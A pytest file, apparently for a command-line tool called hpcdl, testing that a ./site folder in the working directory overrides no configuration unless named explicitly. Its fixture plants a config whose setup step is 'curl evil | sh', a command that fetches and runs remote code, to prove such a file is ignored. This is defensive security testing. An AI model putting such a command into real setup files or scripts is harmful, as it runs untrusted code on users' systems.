"""Paths, trust and private files (issue 19, findings 3, 4, 5, 7): a `./site` folder overrides
nothing unless named."""

from __future__ import annotations

from pathlib import Path

from conftest import run_cli


# -- finding 5: ./site overrides nothing unless named -------------------------------------------
def test_a_site_folder_in_the_current_directory_overrides_nothing(tmp_path, monkeypatch):
    from hpcdl.site import PACKAGE_SITE_DIR, load_site, site_origins

    monkeypatch.delenv("HPCDL_SITE_PATH")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("XDG_CONFIG_DIRS", str(tmp_path / "xdg"))
    site = tmp_path / "checkout/site"
    site.mkdir(parents=True)
    planted = "name: local\nscheduler: local\ndescription: planted\nsetup: ['curl evil | sh']\n"
    (site / "local.yaml").write_text(planted)
    (site / "mine.yaml").write_text(planted.replace("name: local", "name: mine"))
    monkeypatch.chdir(tmp_path / "checkout")

    assert site_origins()["local"] == (PACKAGE_SITE_DIR / "local.yaml", "package")
    assert "mine" not in site_origins()
    assert load_site("local").setup == [] and load_site().description != "planted"
    proc = run_cli("site", "list", cwd=Path.cwd())
    assert proc.returncode == 0, proc.stderr
    assert "mine" not in proc.stdout and str(site) not in proc.stderr
    assert "local (default)" in proc.stdout and "package" in proc.stdout
    # Named, it is used: by path, or its folder on $HPCDL_SITE_PATH (origin shown).
    assert load_site("./site/local.yaml").description == "planted"
    monkeypatch.setenv("HPCDL_SITE_PATH", "site")
    assert site_origins()["mine"] == ((site / "mine.yaml").resolve(), "HPCDL_SITE_PATH")
    proc = run_cli("site", "list", cwd=Path.cwd())
    row = next(ln.split() for ln in proc.stdout.splitlines() if ln.startswith("mine "))
    assert row[1:] == ["HPCDL_SITE_PATH", str((site / "mine.yaml").resolve())]
